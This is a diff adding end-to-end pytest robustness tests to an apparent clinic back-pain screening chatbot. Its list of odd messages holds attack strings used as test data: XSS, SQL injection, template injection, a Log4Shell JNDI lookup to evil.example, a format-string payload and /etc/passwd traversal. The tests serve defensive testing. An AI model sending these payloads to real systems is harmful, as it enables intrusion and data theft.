@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import json
+import urllib.error
+import urllib.request
+
 import pytest
 
 from tests.e2e.conftest import Servers
@@ -63,3 +67,61 @@ def test_the_assistants_own_buttons_still_work(servers: Servers) -> None:
 def test_a_megabyte_message_is_refused_kindly(servers: Servers) -> None:
     replies = servers.say(new_sender(), "ouch " * 210_000)
     assert "1,000 characters" in texts(replies)
+
+
+# More of what a public chat box receives: each gets a reply, and the conversation goes on.
+ODD_MESSAGES = [
+    "\x00", "hello\x00world", "\u200b\u200b\u200b", "\u202eniap kcab", "\ud83d", "my back \udfff hurts",
+    "ｍｙ ｂａｃｋ ｈｕｒｔｓ", "🙂" * 600, "👨‍👩‍👧‍👦", "🔥🔥 back 🔥🔥", "12345", "-1", "3.14159", "NaN", "null",
+    "true", "[]", "{}", '{"message": "hi"}', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+    "&lt;b&gt;bold&lt;/b&gt;", "'; DROP TABLE events; --", "{{7*7}}", "${jndi:ldap://evil.example/a}",
+    "%s%s%s%n", "../../etc/passwd", "\\n\\r\\t", "a" * 5000, "back " * 2000, "/", "//", "/ /",
+    '/restart{"x": 1}', "/nlu_fallback", "/action_restart", "/deny@clinic_bot", "*" * 100, "?", "...",
+    "asdfghjkl qwertyuiop", "my back" + "\n" * 100 + "hurts", "Mein Rücken tut seit Tagen weh",
+    "ظهري يؤلمني كثيرا", "腰が痛いです", "bonjour", "**bold** _italics_ `code`", "https://example.com/?q=1",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+]
+
+
+@pytest.mark.parametrize("message", ODD_MESSAGES, ids=range(len(ODD_MESSAGES)))
+def test_odd_message_is_answered_and_the_conversation_goes_on(servers: Servers, message: str) -> None:
+    sender = screened(servers, "hi, my lower back hurts")
+    replies = servers.say(sender, message)
+    assert texts(replies).strip(), f"no reply to {message[:40]!r}"
+    assert assessment(replies) is None
+    for _ in range(2):
+        after = texts(servers.say(sender, "no none of those")).lower()
+        if "where" in after or "what were you doing" in after:
+            return
+    raise AssertionError(f"the screening never moved on after {message[:40]!r}: {after}")
+
+
+def post_raw(servers: Servers, body: bytes, content_type: str = "application/json") -> tuple[int, str]:
+    call = urllib.request.Request(f"http://localhost:{servers.rasa_port}/webhooks/rest/webhook", data=body,
+                                  headers={"Content-Type": content_type})
+    try:
+        with urllib.request.urlopen(call, timeout=60) as answer:
+            return answer.status, answer.read().decode(errors="replace")
+    except urllib.error.HTTPError as error:
+        return error.code, error.read().decode(errors="replace")
+
+
+@pytest.mark.parametrize("body", [
+    b"{not json", b"", b"null", b"[]", b'"just a string"', b'{"message": "hi, no sender"}',
+    b'{"sender": "", "message": "hi"}', b'{"sender": 42, "message": "hi"}', b'{"sender": "x", "message": 42}',
+    b'{"sender": "x", "message": ["my", "back"]}', b'{"sender": "x", "message": {"text": "hi"}}',
+    b'{"sender": "x", "message": "hi", "metadata": "not an object"}',
+    b'{"sender": "' + b"s" * 300 + b'", "message": "hi"}', b"\xff\xfe" * 500_000, b"[" * 100_000,
+], ids=range(15))
+def test_malformed_body_gets_a_clear_error_and_the_server_carries_on(servers: Servers, body: bytes) -> None:
+    status, text = post_raw(servers, body)
+    assert status == 400, (status, text[:200])
+    assert '"sender"' in json.loads(text)["error"] or '"metadata"' in json.loads(text)["error"]
+    assert "self-check" in texts(servers.say(new_sender(), "hi")), "the server still answers a new client"
+
+
+def test_a_megabyte_json_body_is_answered(servers: Servers) -> None:
+    body = json.dumps({"sender": new_sender(), "message": "my back hurts " * 80_000}).encode()
+    assert len(body) > 1_000_000
+    status, text = post_raw(servers, body, "text/plain")
+    assert status == 200 and "1,000 characters" in texts(json.loads(text))
